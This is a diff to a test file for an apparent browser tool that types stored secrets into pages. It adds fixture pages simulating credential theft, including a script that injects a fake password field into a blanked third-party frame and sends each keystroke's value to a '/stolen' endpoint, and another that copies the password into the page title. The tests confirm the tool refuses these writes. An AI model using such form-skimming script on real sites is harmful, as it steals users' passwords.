@@ -7,6 +7,7 @@ import { endAll, logLines, startServer, type TestServer } from "../support/serve
 
 const W = "secrets-attacks";
 const PASSWORD = "Zq7-secret-Kp4wX";
+const TOKEN = "tls-only-9Vb2qT";
 const stolen: string[] = [];
 const bodies: string[] = [];
 let server: TestServer;
@@ -40,6 +41,18 @@ beforeAll(async () => {
       html(
         `<title>Evil</title>${THIEF}<iframe id=f src="${site.url("/login")}" width=400 height=120></iframe>`,
       ),
+    // A third-party frame that turns itself into about:blank, filled with a sign-in form by a sibling of its origin.
+    "/blank-attack": () =>
+      html(`<title>Blank</title><iframe id=x name=x src="${site.url("/self-blank", "ads.example.test")}"></iframe>
+<iframe src="${site.url("/filler", "ads.example.test")}"></iframe>`),
+    "/self-blank": () => html(`<script>location.href = "about:blank";</script>`),
+    "/filler": () =>
+      html(`<script>const fill = () => { const d = parent.frames.x.document;
+if (!d || d.getElementById("pw")) return;
+d.body.innerHTML = '<label>Password <input id=pw type=password></label>';
+d.getElementById("pw").addEventListener("input", (e) => fetch("/stolen?k=" + encodeURIComponent(e.target.value)));
+}; setInterval(() => { try { fill(); } catch (e) {} }, 20);</script>`),
+    "/opener": () => html(`<title>Opener</title><script>var w = null;</script>`),
     "/stolen": (req) => {
       stolen.push(new URL(req.url).searchParams.get("k") ?? "");
       return new Response("ok");
@@ -54,6 +67,11 @@ beforeAll(async () => {
           allowed_urls: ["app.example.test"],
           keys: { password: { value: PASSWORD } },
         },
+        tls: {
+          description: "only over https",
+          allowed_urls: [`https://app.example.test:${site.port}/`],
+          keys: { token: { value: TOKEN } },
+        },
       };
     },
   });
@@ -64,7 +82,7 @@ afterAll(async () => {
   await server.close();
   site.stop();
   const everything = [...bodies, ...logLines].join("\n");
-  expect(everything).not.toContain(PASSWORD);
+  for (const v of [PASSWORD, TOKEN, btoa(PASSWORD)]) expect(everything).not.toContain(v);
 });
 
 describe("focus theft", () => {
@@ -97,5 +115,72 @@ describe("focus theft", () => {
     expect(w.body.title).toBe(`len ${PASSWORD.length}`);
     await Bun.sleep(300);
     expect(stolen).toEqual([]);
+  });
+});
+
+describe("where a document is", () => {
+  test("an about:blank frame of another origin inside the bound host's page is refused", async () => {
+    stolen.length = 0;
+    expect((await call("/browser/navigate", { url: site.url("/blank-attack") })).status).toBe(200);
+    await Bun.sleep(500);
+    expect((await call("/browser/switch", { frame: { css: "#x" } })).status).toBe(200);
+    const w = await call("/browser/write", {
+      selector: { css: "#pw" },
+      secret: { name: "app", key: "password" },
+    });
+    expect(w.status).toBe(400);
+    expect(w.body.error).toContain("may not be typed on ads.example.test");
+    await Bun.sleep(300);
+    expect(stolen).toEqual([]);
+    await call("/browser/switch", { frame: null });
+  });
+
+  test("a secret bound to an https URL is refused on http of the same host and port", async () => {
+    expect((await call("/browser/navigate", { url: site.url("/login") })).status).toBe(200);
+    const w = await call("/browser/write", {
+      selector: { css: "#pw" },
+      secret: { name: "tls", key: "token" },
+    });
+    expect(w.status).toBe(400);
+    expect(w.body.error).toContain("may not be typed on app.example.test (http:");
+    expect((await call("/browser/read")).body.title).toBe("Login");
+  });
+});
+
+describe("scripts around the write", () => {
+  test("a write is refused on a document a script armed with a copier", async () => {
+    expect((await call("/browser/navigate", { url: site.url("/login") })).status).toBe(200);
+    const armed = await call("/browser/script", {
+      script: `pw.addEventListener("input", () => { document.title = btoa(pw.value); }); return true`,
+    });
+    expect(armed.body.result).toBe(true);
+    const w = await call("/browser/write", {
+      selector: { css: "#pw" },
+      secret: { name: "app", key: "password" },
+    });
+    expect(w.status).toBe(400);
+    expect(w.body.error).toContain("a script");
+    expect((await call("/browser/read")).body.title).toBe("Login");
+  });
+
+  test("another tab's window.open reference cannot read the typed field", async () => {
+    expect((await call("/browser/navigate", { url: site.url("/opener") })).status).toBe(200);
+    const opened = await call("/browser/script", {
+      script: `w = window.open("${site.url("/login")}"); return true`,
+    });
+    expect(opened.body.result).toBe(true);
+    await Bun.sleep(500);
+    expect((await call("/browser/switch", { tab: 1 })).status).toBe(200);
+    const w = await call("/browser/write", {
+      selector: { css: "#pw" },
+      secret: { name: "app", key: "password" },
+    });
+    expect(w.status).toBe(200);
+    expect((await call("/browser/switch", { tab: 0 })).status).toBe(200);
+    const read = await call("/browser/script", { script: "w.document.getElementById('pw').value" });
+    expect(read.status).toBe(400);
+    expect(JSON.stringify(read.body)).not.toContain(PASSWORD);
+    await call("/browser/switch", { tab: 1 });
+    await call("/browser/switch", { tab: "close" });
   });
 });
